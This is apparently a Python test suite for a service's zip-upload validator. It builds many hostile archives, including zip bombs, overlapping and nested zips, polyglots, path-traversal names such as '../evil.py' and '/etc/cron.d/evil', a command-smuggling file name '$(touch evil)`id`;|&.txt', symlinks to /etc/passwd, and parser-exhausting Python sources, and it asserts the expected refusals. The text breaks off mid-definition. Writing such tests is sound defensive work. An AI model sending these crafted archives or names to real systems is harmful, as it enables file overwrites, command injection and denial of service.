"""What somebody may send to break us: each archive has its outcome, in words or as a folder that holds it."""

import random
import stat
import struct
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.core.files.base import ContentFile
from hypothesis import HealthCheck, example, given
from hypothesis import settings as settings_of_hypothesis
from hypothesis import strategies as st

from services import contracts, sources, template
from services.contracts import ContractRejected
from services.runtimes import home
from services.runtimes.base import UserError
from services.runtimes.environments import requirements
from services.sources import SourceRejected, reading
from tests.archives import (
    CENTRAL,
    END,
    GOOD,
    LOCAL,
    PROGRAM,
    UTF8,
    Piece,
    build,
    crooked,
    entry,
    extra_field,
    good_pieces,
    project,
    with_fields,
    zip_of,
    zipped,
)
from tests.settings import TESTS_HOME

CPU_SECONDS = 8.0  # of this process; what is parsed in a child ends after three
MEMORY_BYTES = 400 << 20
MEGABYTE = 1 << 20


@dataclass(frozen=True)
class Refused:
    """A message names ``what`` and says ``why``."""

    what: str
    why: str


@dataclass(frozen=True)
class Taken:
    """It is taken, and these files lie in the folder beside those of the good project; ``warns`` says a warning."""

    files: frozenset[str] = frozenset()
    warns: str = ""


Outcome = Refused | Taken


def taken(*files: str, warns: str = "") -> Taken:
    return Taken(frozenset(files), warns)


DAMAGED = "The zip is damaged"


# How some are made


def noise(size: int) -> bytes:
    return random.Random(1).randbytes(size)


def patched(content: bytes, signature: bytes, offset: int, value: bytes, *, number: int = 1) -> bytes:
    """``content`` with bytes of its ``number``-th header of this kind replaced."""
    at = -1
    for _ in range(number + 1):
        at = content.index(signature, at + 1)
    return content[: at + offset] + value + content[at + offset + len(value) :]


def twice(*names: str) -> bytes:
    """A good zip with entries that land on one another."""
    return crooked(*(Piece(name=name.encode(), content=b"x") for name in names))


def named(name: bytes, *, flags: int = 0) -> bytes:
    return crooked(Piece(name=name, content=b"x", flags=flags))


def of_kind(kind: int, name: str = "odd", **fields: object) -> bytes:
    return crooked(Piece(name=name.encode(), content=b"/etc/passwd", mode=kind | 0o777, **fields))  # type: ignore[arg-type]


def nested_zips(levels: int) -> bytes:
    """A zip in a zip in a zip, each with sixteen of the next."""
    content = zip_of({"zeros": bytes(MEGABYTE)})
    for _ in range(levels):
        content = zip_of({f"{n}.zip": content for n in range(16)})
    return zipped(("42.zip", content))


def holding_itself() -> bytes:
    """Its last entry is the whole zip once more, as in one that unpacks for ever."""
    good = build(good_pieces())
    return crooked(Piece(name=b"itself.zip", content=b"", offset=0, packed_size=len(good), size=len(good)))


def sharing_one_kernel() -> bytes:
    """Many entries that are all the same packed bytes."""
    kernel = Piece(name=b"kernel", content=bytes(MEGABYTE), method=8)
    at = len(build(good_pieces())) - len(END) - 18 - sum(46 + len(name) for name in GOOD)
    others = [
        Piece(name=f"f{n}".encode(), content=kernel.content, method=8, offset=at, is_there=False) for n in range(100)
    ]
    return crooked(kernel, *others)


def quoting_headers() -> bytes:
    """Each entry holds the header of the next one, as in the bomb that overlaps itself without equal places."""
    inner = Piece(name=b"inner", content=b"1" * 100)
    at = len(good_bodies())
    body = build([inner])[: 30 + 5 + 100]
    return crooked(
        Piece(name=b"outer", content=body + b"2" * 50),
        Piece(name=b"inner", content=b"1" * 100, is_there=False, offset=at + 30 + 5),
    )


def good_bodies() -> bytes:
    content = build(good_pieces())
    return content[: content.index(CENTRAL)]


def two_in_one() -> bytes:
    """One zip behind another: who reads from the front sees another project."""
    first = build([Piece(name=b"src/program.py", content=b"def run(): 'the other one'\n")])
    return first + build(good_pieces())


def two_ends() -> bytes:
    """A second end in the comment of the first, with a list of its own."""
    other = build([Piece(name=b"src/program.py", content=b"def run(): 'the other one'\n")])
    return build(good_pieces(), comment=other)


def with_end_64(**fields: int) -> bytes:
    """A zip whose end is in 64 bits, where ``fields`` lie."""
    plain = build(good_pieces())
    end = plain.rindex(END)
    count, length, start = struct.unpack("<H2L", plain[end + 10 : end + 20])
    said = {"disk": 0, "first_disk": 0, "count": count, "length": length, "start": start, "disks": 1} | fields
    record = b"PK\x06\x06" + struct.pack(
        "<Q2H2L4Q", 44, 45, 45, said["disk"], said["first_disk"], said["count"], said["count"], said["length"],
        said["start"],
    )  # fmt: skip
    locator = b"PK\x06\x07" + struct.pack("<LQL", 0, end, said["disks"])
    return build(good_pieces(), end_64=record + locator)


def with_wide_sizes(*values: int, **fields: object) -> bytes:
    """An entry whose sizes and place are in an extra field of 64 bits."""
    wide = struct.pack(f"<{len(values)}Q", *values)
    return with_fields(extra=extra_field(1, wide), local_extra=b"", **fields)


def other_name(name: bytes, other: bytes, *, checksum: int | None = None) -> bytes:
    checksum = zlib.crc32(name) if checksum is None else checksum
    field_ = extra_field(0x7075, struct.pack("<BL", 1, checksum) + other)
    return crooked(Piece(name=name, content=b"x", extra=field_))


def in_a_stream(*, size: int = 8) -> bytes:
    """Sizes and checksums stand behind each entry, as a program writes that cannot go back."""
    content = b"streamed"
    behind = b"PK\x07\x08" + struct.pack("<3L", zlib.crc32(content), size, size)
    return crooked(
        Piece(
            name=b"more.txt",
            content=content,
            flags=UTF8 | 8,
            packed=content + behind,
            packed_size=len(content),
            local_checksum=0,
            local_packed_size=0,
            local_size=0,
        )
    )


def flood(count: int, *, folders: int = 0) -> bytes:
    return crooked(*(Piece(name=f"{'d/' * folders}{n}".encode()) for n in range(count)))


def deep_folders() -> bytes:
    """Few entries, many folders with long names."""
    return crooked(*(Piece(name=b"/".join([b"%020d" % n] * 38)) for n in range(3_000)))


def extra_fields_without_end() -> bytes:
    """Sixteen thousand empty extra fields in each entry."""
    fields = extra_field(9, b"") * 16_000
    return crooked(*(Piece(name=b"%d" % n, extra=fields, local_extra=b"") for n in range(20)))


def long_comments() -> bytes:
    return crooked(*(Piece(name=b"%d" % n, comment=noise(60_000)) for n in range(200)), comment=b"c" * 65_000)


def program(text: str | bytes) -> Callable[[], bytes]:
    return lambda: zip_of(GOOD | {"src/program.py": text}, method=zipfile.ZIP_STORED)


def much(text: str, *, before: str = "x = ", behind: str = "", size: int = MEGABYTE - 1000) -> Callable[[], bytes]:
    """A program that is one statement of ``text`` again and again, beside a good function."""
    return program(PROGRAM + before + text * (size // len(text)) + behind + "\n")


def hostile_module() -> bytes:
    """Modules of the project, which are read for the classes of the input."""
    program = "from .models import A\ndef run(data: A): pass\n"
    text = "class A:\n    x: int = 0\n" + "f'" + "{a!r:{a}}" * 9_000 + "'\n"
    others = {f"src/m{n}.py": "a\n" * 49_000 for n in range(90)}
    files = GOOD | {"src/program.py": program, "src/models.py": text} | others
    return zip_of(files, method=zipfile.ZIP_STORED)


BOMB = "it unpacks to more than 100 times its packed size"
OUTSIDE = "it would be written outside the project"
INVISIBLE = "control characters or invisible ones"
OVERLAP = "overlap with those of another entry or end outside"

# what: (how it is made, what becomes of it)
CASES: dict[str, tuple[Callable[[], bytes], Outcome]] = {
    # No zip at all
    "text": (lambda: b"def run(): pass", Refused("The file is not a zip", "zip -r ../project.zip .")),
    "empty": (lambda: b"", Refused("The file is not a zip", "empty")),
    "gzip": (lambda: b"\x1f\x8b\x08rest", Refused("The file is not a zip", ".tar.gz")),
    "rar": (lambda: b"Rar!\x1a\x07", Refused("The file is not a zip", "RAR")),
    "7z": (lambda: b"7z\xbc\xaf\x27\x1c", Refused("The file is not a zip", "7-Zip")),
    "empty zip": (lambda: zip_of({}), Refused("src/program.py", "holds nothing")),
    "first part of several": (lambda: b"PK\x07\x08" + zipped(), Refused("not a zip", "zip of several parts")),
    # Polyglots: another program sees another file
    "shell script before the zip": (lambda: b"#!/bin/sh\n" + zipped(), Refused("not a zip", "first bytes")),
    "picture before the zip": (lambda: b"GIF89a" + noise(100) + zipped(), Refused("not a zip", "first bytes")),
    "PDF before the zip": (lambda: b"%PDF-1.7\n" + zipped(), Refused("not a zip", "a PDF")),
    "zip before the zip": (two_in_one, Refused(DAMAGED, "put in front of it")),
    "zip before the zip, places mended": (
        lambda: build(good_pieces(), before=LOCAL + noise(200)),
        Refused("src/__init__.py", "something is before it"),
    ),
    "something behind the zip": (lambda: zipped() + noise(100), Refused(DAMAGED, "something follows its end")),
    "much behind the zip": (lambda: zipped() + noise(100_000), Refused(DAMAGED, "its end, is missing")),
    "page in the comment": (lambda: build(good_pieces(), comment=b"<script>alert(1)</script>"), taken()),
    "zip in the comment": (two_ends, Refused(DAMAGED, "does not lie where it says")),
    "end that is called longer": (lambda: build(good_pieces(), comment_size=9), Refused(DAMAGED, "follows its end")),
    "extension of Python": (
        lambda: crooked(Piece(name=b"src/fast.so", content=b"\x7fELF" + noise(100), mode=0o100755)),
        taken("src/fast.so"),
    ),
    # The list of entries lies
    "truncated": (lambda: zipped(("data.bin", noise(10_000)))[:5_000], Refused(DAMAGED, "cut short")),
    "truncated by one byte": (lambda: zipped()[:-1], Refused(DAMAGED, "cut short")),
    "list elsewhere": (lambda: build(good_pieces(), start=7), Refused(DAMAGED, "does not lie where it says")),
    "list beyond the end": (lambda: build(good_pieces(), start=1 << 31), Refused(DAMAGED, "where it says")),
    "list longer than the zip": (lambda: build(good_pieces(), length=1 << 31), Refused(DAMAGED, "where it says")),
    "list shorter than it is": (lambda: build(good_pieces(), length=60), Refused(DAMAGED, "where it says")),
    "more entries than listed": (lambda: build(good_pieces(), count=9, count_here=9), Refused(DAMAGED, "9 entries")),
    "fewer entries than listed": (lambda: build(good_pieces(), count=1, count_here=1), Refused(DAMAGED, "1 entries")),
    "last part of several": (lambda: build(good_pieces(), disk=3), Refused(DAMAGED, "one part of a zip")),
    "entries in other parts": (lambda: build(good_pieces(), count_here=1), Refused(DAMAGED, "one part of a zip")),
    "entry in another part": (lambda: with_fields(disk=2), Refused("more.txt", "another part")),
    "entry beyond the end": (lambda: with_fields(offset=1 << 30), Refused("more.txt", OVERLAP)),
    "entry that is not there": (lambda: with_fields(is_there=False), Refused("more.txt", "overlap")),
    "entry that is not listed": (
        lambda: build([*good_pieces(), Piece(name=b"hidden.txt", content=b"x", is_listed=False)]),
        taken(),
    ),
    # In 64 bits
    "end in 64 bits": (lambda: with_end_64(), taken()),
    "list of 2^64 bytes": (lambda: with_end_64(length=2**64 - 1), Refused(DAMAGED, "where it says")),
    "list at 2^63": (lambda: with_end_64(start=2**63), Refused(DAMAGED, "where it says")),
    "2^40 entries": (lambda: with_end_64(count=2**40), Refused(DAMAGED, "1,099,511,627,776 entries")),
    "64 bits on many disks": (lambda: with_end_64(disks=7), Refused(DAMAGED, "one part of a zip")),
    "size of 2^60": (
        lambda: with_wide_sizes(2**60, size=0xFFFFFFFF),
        Refused("more.txt", "its content is damaged"),
    ),
    "packed size of 2^63": (
        lambda: with_wide_sizes(2**63 + 1, packed_size=0xFFFFFFFF),
        Refused("more.txt", OVERLAP),
    ),
    "place of 2^64": (lambda: with_wide_sizes(2**64 - 1, offset=0xFFFFFFFF), Refused("more.txt", OVERLAP)),
    "64 bits that are missing": (
        lambda: with_wide_sizes(size=0xFFFFFFFF, packed_size=0xFFFFFFFF),
        Refused(DAMAGED, "zip64"),
    ),
    # Sizes and checksums
    "wrong checksum": (lambda: with_fields(checksum=1), Refused("more.txt", "damaged (Bad CRC-32")),
    "size too small": (lambda: with_fields(size=10), Refused("more.txt", "damaged")),
    "size too large": (lambda: with_fields(size=10**6), Refused("more.txt", "damaged")),
    "packed size too large": (lambda: with_fields(packed_size=10**6), Refused("more.txt", OVERLAP)),
    "packed size too small": (lambda: with_fields(packed_size=1, method=8), Refused("more.txt", "damaged")),
    "negative sizes": (lambda: with_fields(size=0xFFFFFFFF, packed_size=0xFFFFFFFF), Refused("more.txt", OVERLAP)),
    "other sizes in its header": (lambda: with_fields(local_size=1, local_packed_size=1), taken("more.txt")),
    "other name in its header": (lambda: with_fields(local_name=b"evil.txt"), Refused("more.txt", "damaged")),
    "longer name in its header": (lambda: with_fields(local_name=b"m" * 60_000), Refused("more.txt", "damaged")),
    "other checksum in its header": (lambda: with_fields(local_checksum=1), taken("more.txt")),
    "broken deflate stream": (lambda: with_fields(packed=b"\xff" * 80, method=8), Refused("more.txt", "damaged")),
    "deflate stream without end": (
        lambda: with_fields(packed=zlib.compress(noise(500))[2:300], method=8, content=noise(500)),
        Refused("more.txt", "damaged"),
    ),
    "something behind the stream": (
        lambda: with_fields(
            packed=Piece(name=b"", content=b"more", method=8).bytes_behind() + noise(50), method=8, content=b"more"
        ),
        taken("more.txt"),
    ),
    "written as a stream": (in_a_stream, taken("more.txt")),
    "wrong sizes behind the stream": (lambda: in_a_stream(size=10**9), taken("more.txt")),
    # Bombs
    "bomb": (lambda: zipped(("zeros.bin", bytes(5_000_000))), Refused("zeros.bin", BOMB)),
    "bomb beside much that is not": (
        lambda: zipped(("noise.bin", noise(200_000)), ("zeros.bin", bytes(3_000_000))),
        Refused("zeros.bin", BOMB),
    ),
    "many small bombs": (lambda: zipped(*((f"{n}", bytes(900_000)) for n in range(60))), Refused("", BOMB)),
    "bomb that says to be small": (
        lambda: with_fields(content=bytes(50 * MEGABYTE), method=8, size=10, local_size=10),
        Refused("more.txt", "damaged"),
    ),
    "bomb in the program": (lambda: project("#" * 9_000_000), Refused("src/program.py", BOMB)),
    "zips in zips": (lambda: nested_zips(3), taken("42.zip")),
    "zip that holds itself": (holding_itself, Refused("src/__init__.py", "overlap")),
    "entries that share their bytes": (sharing_one_kernel, Refused("kernel", "overlap")),
    "entries that quote one another": (quoting_headers, Refused("outer", "overlap")),
    "flood of entries": (lambda: flood(10_001), Refused("10,001 entries", "10,000 are allowed")),
    "flood of folders": (deep_folders, Refused("folders", "10,000 are allowed")),
    "flood of entries in one deep folder": (
        lambda: flood(2_000, folders=38),
        taken(*(f"{'d/' * 38}{n}" for n in range(2_000))),
    ),
    "flood of extra fields": (extra_fields_without_end, Refused(DAMAGED, "64,000 bytes of extra fields")),
    "extra field that is cut off": (
        lambda: with_fields(extra=struct.pack("<HH", 9, 500) + b"x"),
        Refused(DAMAGED, "Corrupt extra field"),
    ),
    "long comments": (long_comments, taken(*(str(n) for n in range(200)))),
    # Encryption and methods
    "encrypted": (lambda: with_fields(flags=UTF8 | 1), Refused("more.txt", "encrypted")),
    "strongly encrypted": (lambda: with_fields(flags=UTF8 | 0x41), Refused("more.txt", "encrypted")),
    "encrypted list": (lambda: with_fields(flags=UTF8 | 0x2000), Refused("more.txt", "encrypted")),
    "encrypted by AES": (lambda: with_fields(flags=UTF8 | 1, method=99), Refused("more.txt", "encrypted")),
    "patch data": (lambda: with_fields(flags=UTF8 | 0x20), Refused("more.txt", "damaged")),
    "deflate64": (lambda: with_fields(method=9), Refused("more.txt", "method 9")),
    "bzip2": (lambda: with_fields(method=12), Refused("more.txt", "method 12")),
    "LZMA": (lambda: with_fields(method=14), Refused("more.txt", "method 14")),
    "zstd": (lambda: with_fields(method=93), Refused("more.txt", "method 93")),
    "no such method": (lambda: with_fields(method=65_535), Refused("more.txt", "method 65535")),
    "of the far future": (lambda: with_fields(version=250), Refused(DAMAGED, "zip file version 25.0")),
    # Paths
    "absolute path": (lambda: named(b"/etc/cron.d/evil"), Refused("/etc/cron.d/evil", OUTSIDE)),
    "path of a share": (lambda: named(b"//server/share/evil"), Refused("//server/share/evil", OUTSIDE)),
    "drive letter": (lambda: named(b"C:/evil.txt"), Refused("C:/evil.txt", OUTSIDE)),
    "drive letter without a slash": (lambda: named(b"c:evil.txt"), Refused("c:evil.txt", OUTSIDE)),
    "two dots": (lambda: named(b"../evil.py"), Refused("../evil.py", OUTSIDE)),
    "two dots inside": (lambda: named(b"src/../../evil.py"), Refused("src/../../evil.py", OUTSIDE)),
    "two dots in a folder": (lambda: named(b"src/../../evil/"), Refused("src/../../evil/", OUTSIDE)),
    "two dots at the end": (lambda: named(b"src/.."), Refused("src/..", OUTSIDE)),
    "two dots among what Finder adds": (lambda: named(b"__MACOSX/../../e"), Refused("__MACOSX/../../e", OUTSIDE)),
    "two dots behind dots": (lambda: named(b"./.././evil"), Refused("./.././evil", OUTSIDE)),
    "two dots, overlong": (lambda: named(b"\xc0\xae\xc0\xae/evil", flags=UTF8), Refused(r"\xc0\xae", "in UTF-8")),
    "two dots, percent": (lambda: named(b"%2e%2e%2fevil"), taken("%2e%2e%2fevil")),
    "two dots, wide": (lambda: named("\uff0e\uff0e/evil".encode()), taken("\uff0e\uff0e/evil")),
    "two dots with backslashes": (lambda: named(rb"..\..\evil.py"), Refused(r"..\..\evil.py", "backslash")),
    "backslashes": (lambda: named(rb"src\libs\a.py"), Refused(r"src\libs\a.py", "forward slashes")),
    "share with backslashes": (lambda: named(rb"\\server\share"), Refused(r"\\server\share", "backslash")),
    "four dots": (lambda: named(b"....//evil"), taken("..../evil")),
    "three dots": (lambda: named(b"..."), taken("...")),
    "one dot": (lambda: named(b"."), taken()),
    "no name": (lambda: named(b""), taken()),
    "no name but a slash": (lambda: named(b"/"), Refused("/", OUTSIDE)),
    "home folder": (lambda: named(b"~/.ssh/authorized_keys"), taken("~/.ssh/authorized_keys")),
    "option": (lambda: named(b"-rf"), taken("-rf")),
    "command": (lambda: named(b"$(touch evil)`id`;|&.txt"), taken("$(touch evil)`id`;|&.txt")),
    "stream of NTFS": (lambda: named(b"a.txt:evil.exe"), taken("a.txt:evil.exe")),
    "devices of Windows": (
        lambda: crooked(*(Piece(name=n) for n in (b"CON", b"aux.py", b"NUL.txt"))),
        taken("CON", "aux.py", "NUL.txt"),
    ),  # jobs run on Linux
    "dot and space at the end": (lambda: crooked(Piece(name=b"a."), Piece(name=b"b ")), taken("a.", "b ")),
    "long name": (lambda: named(b"a" * 300), Refused("aaa", "too long")),
    "long name in few characters": (lambda: named("\U0001f600".encode() * 64), Refused("\U0001f600", "too long")),
    "long path": (lambda: named(b"/".join([b"folder"] * 200)), Refused("folder/folder", "too long")),
    "many levels": (lambda: named(b"/".join([b"a"] * 60)), Refused("a/a/a", "too long")),
    "name of 64 KB": (lambda: named(b"a" * 65_000), Refused("aaa", "too long")),
    # Names
    "NUL in a name": (lambda: named(b"src/a.py\0.txt"), Refused(r"src/a.py\x00.txt", INVISIBLE)),
    "newline in a name": (lambda: named(b"a\nb.py"), Refused(r"a\nb.py", INVISIBLE)),
    "escape sequence in a name": (lambda: named(b"a\x1b[31m.py"), Refused(r"a\x1b[31m.py", INVISIBLE)),
    "name that reads backwards": (lambda: named("a\u202eyp.txt".encode()), Refused(r"a\u202eyp.txt", INVISIBLE)),
    "space without width": (lambda: named("src/pro\u200bgram.py".encode()), Refused(r"pro\u200bgram", INVISIBLE)),
    "byte order mark in a name": (lambda: named("\ufeffa.py".encode()), Refused(r"\ufeffa.py", INVISIBLE)),
    "half a character": (lambda: named(b"\xed\xa0\x80.py", flags=UTF8), Refused(r"\xed\xa0\x80.py", "in UTF-8")),
    "Latin-1 name": (lambda: named("caf\u00e9.py".encode("latin-1")), Refused(r"caf\xe9.py", "in UTF-8")),
    "name that only says to be UTF-8": (
        lambda: named("caf\u00e9.py".encode("latin-1"), flags=UTF8),
        Refused(r"caf\xe9.py", "in UTF-8"),
    ),
    "name in UTF-8 without the flag": (lambda: named("mod\u00e8le.py".encode()), taken("mod\u00e8le.py")),
    "duplicate": (lambda: twice("notes.txt", "notes.txt"), Refused("notes.txt", "in the zip twice")),
    "duplicate program": (lambda: twice("src/program.py"), Refused("src/program.py", "in the zip twice")),
    "duplicate by a dot": (lambda: twice("notes.txt", "./notes.txt"), Refused("notes.txt", "in the zip twice")),
    "duplicate by two slashes": (lambda: twice("src/a.py", "src//a.py"), Refused("src/a.py", "in the zip twice")),
    "duplicate but for case": (lambda: twice("src/A.py", "src/a.py"), Refused("src/a.py", "only in the case")),
    "duplicate but for a sharp s": (lambda: twice("\u00df.py", "ss.py"), Refused("ss.py", "only in the case")),
    "duplicate but for encoding": (lambda: twice("\u00e9.py", "e\u0301.py"), Refused("e\u0301.py", "the encoding")),
    "duplicate but for a Kelvin": (lambda: twice("\u212a.py", "k.py"), Refused("k.py", "only in the case")),
    "file and folder": (lambda: twice("data", "data/a.txt"), Refused("data", "both a file and a folder")),
    "file and folder, other case": (lambda: twice("Data/a.txt", "data"), Refused("data", "both a file and a folder")),
    "src as a file": (lambda: twice("src"), Refused("src", "both a file and a folder")),
    "second name elsewhere": (
        lambda: other_name(b"more.txt", b"../../evil"),
        Refused("more.txt", "a second name, ../../evil"),
    ),
    "second name for the program": (
        lambda: other_name(b"more.txt", b"src/program.py"),
        Refused("more.txt", "a second name, src/program.py"),
    ),
    "second name that is no text": (lambda: other_name(b"more.txt", b"\xff"), Refused("more.txt", r"name, \xff")),
    "second name that is the same": (lambda: other_name(b"more.txt", b"more.txt"), taken("more.txt")),
    "second name out of date": (lambda: other_name(b"more.txt", b"old.txt", checksum=1), taken("more.txt")),
    # Kinds
    "symbolic link": (lambda: of_kind(stat.S_IFLNK), Refused("odd", "symbolic link")),
    "symbolic link of another system": (
        lambda: zipped((entry("odd", stat.S_IFLNK | 0o777, system=0), "/etc/passwd")),
        Refused("odd", "symbolic link"),
    ),
    "symbolic link that is a folder": (lambda: of_kind(stat.S_IFLNK, "odd/"), Refused("odd/", "symbolic link")),
    "link instead of src": (
        lambda: build([Piece(name=b"src", content=b"/etc", mode=stat.S_IFLNK | 0o777)]),
        Refused("src", "symbolic link"),
    ),
    "named pipe": (lambda: of_kind(stat.S_IFIFO), Refused("odd", "special file")),
    "disk": (lambda: of_kind(stat.S_IFBLK), Refused("odd", "special file")),
    "terminal": (lambda: of_kind(stat.S_IFCHR), Refused("odd", "special file")),
    "socket": (lambda: of_kind(stat.S_IFSOCK), Refused("odd", "special file")),
    "kind that does not exist": (lambda: of_kind(0o170000), Refused("odd", "special file")),
    "hard link by an extra field": (
        lambda: with_fields(extra=extra_field(0x0D, bytes(12) + b"/etc/passwd")),
        taken("more.txt"),
    ),
    "junction of Windows": (lambda: with_fields(attributes=0x400), taken("more.txt")),
    "setuid program": (lambda: with_fields(mode=stat.S_IFREG | 0o6777), taken("more.txt")),
    "folder with content": (lambda: with_fields(name=b"folder/"), taken()),
    "program that says to be a folder": (
        lambda: build([Piece(name=b"src/program.py", content=PROGRAM.encode(), mode=stat.S_IFDIR | 0o755)]),
        Refused("src/program.py", "it is missing"),
    ),
    "no month and hour 31": (lambda: with_fields(date=0, time=0xFFFF), taken("more.txt")),
    # The program, which Python itself reads, in a child
    "NUL in the program": (program("def run(): pass\0"), Refused("src/program.py", "null bytes")),
    "byte order mark": (program("\ufeffdef run(data): pass"), taken()),
    "program in UTF-16": (program("def run(): pass".encode("utf-16")), Refused("src/program.py", "")),
    "program of a wrong encoding": (program(b"x = '\xff'\ndef run(): pass"), Refused("src/program.py", "utf-8")),
    "encoding that does not exist": (program("# coding: klingon\n" + PROGRAM), Refused("src/program.py", "klingon")),
    "encoding that is none": (program("# coding: rot13\n" + PROGRAM), Refused("src/program.py", "rot13")),
    "encoding of quadratic time": (
        program("# coding: punycode\nx=1-" + "zz9a" * 200_000),
        Refused("src/program.py", "more than 1 s"),
    ),
    "line of 1 MB": (program(PROGRAM + f"x = '{'y' * 1_000_000}'\n"), taken()),
    "program too long": (program("#" * 1_100_000), Refused("src/program.py", "longer than 1 MiB")),
    "number of 1 MB": (program("x = " + "1" * 1_000_000), Refused("src/program.py", "4300 digits")),
    "power that fills the memory": (program(PROGRAM + "x = 9 ** 9 ** 9 ** 9\n"), taken()),
    "signs in a row": (much("-", behind="1"), Refused("src/program.py", "Python cannot read it")),
    "sums in a row": (much("1+", behind="1"), Refused("src/program.py", "Python cannot read it")),
    "dots in a row": (much("a.", behind="a"), Refused("src/program.py", "Python cannot read it")),
    "brackets in brackets": (much("["), Refused("src/program.py, line 3", "too many nested parentheses")),
    "functions in functions": (much("lambda:", behind="1"), Refused("src/program.py", "Python cannot read it")),
    "blocks in blocks": (
        program("".join(f"{' ' * n}if 1:\n" for n in range(200))),
        Refused("src/program.py, line 101", "too many levels of indentation"),
    ),
    "conditions in a row": (
        program(PROGRAM + "if a:\n a\n" + "elif a:\n a\n" * 2_000),
        taken(),
    ),
    "half a million statements": (much("a\n", before=""), Refused("src/program.py", "")),
    "half a million values": (much("a,", before="x = [", behind="]"), Refused("src/program.py", "")),
    "formatted string of 1 MB": (
        much("{a!r:{a}}", before="f'", behind="'"),
        Refused("src/program.py", "more than 1 s"),
    ),
    "annotation without end": (
        program(f"def run(data: {'a.' * 900}a): pass"),
        taken(),
    ),
    "warnings without end": (program(PROGRAM + "'\\d'\n" * 20_000), taken()),
    "modules without end": (hostile_module, taken("src/models.py", *(f"src/m{n}.py" for n in range(90)))),
    "spaces without end in __main__": (
        lambda: zip_of(GOOD | {"src/program.py": "x = 1", "src/__main__.py": "\n" * 90_000}, method=zipfile.ZIP_STORED),
        taken("src/__main__.py", warns="it has no function named run"),
    ),
    "no run": (program("def start(data, params): pass"), Refused("src/program.py", "no function named run")),
    # What else is read of it
    "README of no text": (lambda: crooked(Piece(name=b"README.md", content=b"\0\xff\x1b")), taken("README.md")),
    "example nested without end": (
        lambda: zip_of(GOOD | {"input/data.json": "[" * 200_000}, method=zipfile.ZIP_STORED),
        taken("input/data.json", warns="input/data.json"),
    ),
    "example with a number of 1 MB": (
        lambda: zip_of(GOOD | {"input/data.json": "1" * 900_000}, method=zipfile.ZIP_STORED),
        taken("input/data.json", warns="input/data.json"),
    ),
}


@pytest.fixture(autouse=True)
def _little_time(monkeypatch: pytest.MonkeyPatch) -> None:
    """What takes too long is to do so in a test's time."""
    monkeypatch.setattr(reading, "CPU_SECONDS", 1)
    monkeypatch.setattr(reading, "MEMORY_BYTES", 200 << 20)


def check(content: bytes) -> sources.Source:
    return sources.check(ContentFile(content), "project.zip")


def refusal(content: bytes) -> str:
    with pytest.raises(SourceRejected) as refused:
        check(content)
    return "\n".join(refused.value.messages)


def unpacked(content: bytes) -> Path:
    """The folder of an archive that is taken."""
    source = check(content)
    sources.store(ContentFile(content), source.sha256)
    return sources.materialise(source.sha256)


def files_in(folder: Path) -> set[str]:
    """The files below ``folder``: nothing there is anything else than a file or a folder, and none may be written."""
    found = set()
    for path in [folder, *folder.rglob("*")]:
        mode = path.lstat().st_mode
        assert stat.S_IMODE(mode) & 0o7222 == 0, path
        if not stat.S_ISDIR(mode):
            assert stat.S_ISREG(mode), path
            assert path.stat().st_nlink == 1, path
            found.add(path.relative_to(folder).as_posix())
    return found


def peak_bytes() -> int:
    status = Path("/proc/self/status").read_text()
    return int(next(line for line in status.splitlines() if line.startswith("VmHWM")).split()[1]) * 1024


@contextmanager
def bounded() -> Iterator[None]:
    """Neither long nor much, and nothing of it anywhere but in one folder of its own."""
    kept = home.jobs_home() / "sources"
    kept.mkdir(parents=True, exist_ok=True)
    before, beside = {path.name for path in kept.iterdir()}, set(kept.parent.iterdir())
    Path("/proc/self/clear_refs").write_text("5")  # the peak begins anew
    held, began = peak_bytes(), time.thread_time()
    yield
    assert time.thread_time() - began < CPU_SECONDS
    assert peak_bytes() - held < MEMORY_BYTES
    made = {path.name for path in kept.iterdir()} - before
    assert len(made) <= 1
    assert not [name for name in made if name.startswith(".")]
    assert set(kept.parent.iterdir()) == beside


@pytest.mark.parametrize("what", CASES)
def test_a_hostile_archive_has_its_outcome(what: str) -> None:
    make, outcome = CASES[what]
    content = make()
    with bounded():
        if isinstance(outcome, Refused):
            message = refusal(content)
            assert outcome.what in message
            assert outcome.why in message
            assert len(message) < 5_000
            assert all(line.isprintable() for line in message.splitlines()), message
            assert "Traceback" not in message
        else:
            source = check(content)
            sources.store(ContentFile(content), source.sha256)
            assert files_in(sources.materialise(source.sha256)) == GOOD.keys() | outcome.files
            warnings = "\n".join(source.warnings)
            assert outcome.warns in warnings
            assert bool(outcome.warns) == bool(warnings)


def test_there_are_enough_of_them_and_none_got_out() -> None:
    assert len(CASES) >= 60
    kept = {home.jobs_home() / name for name in ("sources", "environments")}  # a package of other tests is called so
    assert not [path for path in TESTS_HOME.rglob("*evil*") if kept.isdisjoint(path.parents)]


# Made by hypothesis


@given(places=st.lists(st.tuples(st.integers(0, 10_000), st.binary(min_size=1, max_size=4)), min_size=1, max_size=8))
@settings_of_hypothesis(max_examples=150, deadline=None)
def test_whatever_is_damaged_is_refused_and_never_breaks_the_check(places: list[tuple[int, bytes]]) -> None:
    content = bytearray(template.as_zip())
    for place, damage in places:
        at = place % len(content)
        content[at : at + len(damage)] = damage
    with suppress(SourceRejected):
        check(bytes(content))


NAMES = st.one_of(
    st.sampled_from(
        [b"src/program.py", b"src/", b"a", b"A", b"a/b", b"../a", b"/a", b"a/../b", b"./a", b"a//b", b".."]
    ),
    st.binary(max_size=12),
    st.text(max_size=8).map(lambda text: text.encode("utf-8", "surrogatepass")),
    st.lists(st.sampled_from([b"..", b".", b"", b"a", b"src", b"\\", b"C:", b"\0"]), max_size=6).map(b"/".join),
)
SIZES = st.one_of(st.none(), st.sampled_from([0, 1, 2**31, 2**32 - 1]), st.integers(0, 2**32 - 1))
PIECES = st.builds(
    Piece,
    name=NAMES,
    content=st.binary(max_size=40),
    method=st.sampled_from([0, 0, 0, 8, 8, 12, 99]),
    flags=st.sampled_from([0, 0, UTF8, UTF8, 1, 8, 0x20, 0x40, 0xFFFF]),
    mode=st.one_of(st.just(0o100644), st.integers(0, 0xFFFF)),
    packed=st.one_of(st.none(), st.binary(max_size=20)),
    packed_size=SIZES,
    size=SIZES,
    checksum=SIZES,
    extra=st.one_of(st.just(b""), st.binary(max_size=30), st.binary(max_size=24).map(lambda b: extra_field(1, b))),
    offset=st.one_of(st.none(), st.none(), SIZES),
    disk=st.sampled_from([0, 0, 0, 1]),
    is_there=st.sampled_from([True, True, True, False]),
)
ENDS = st.fixed_dictionaries(
    {},
    optional={
        "comment": st.binary(max_size=30),
        "count": st.integers(0, 9),
        "start": SIZES,
        "length": SIZES,
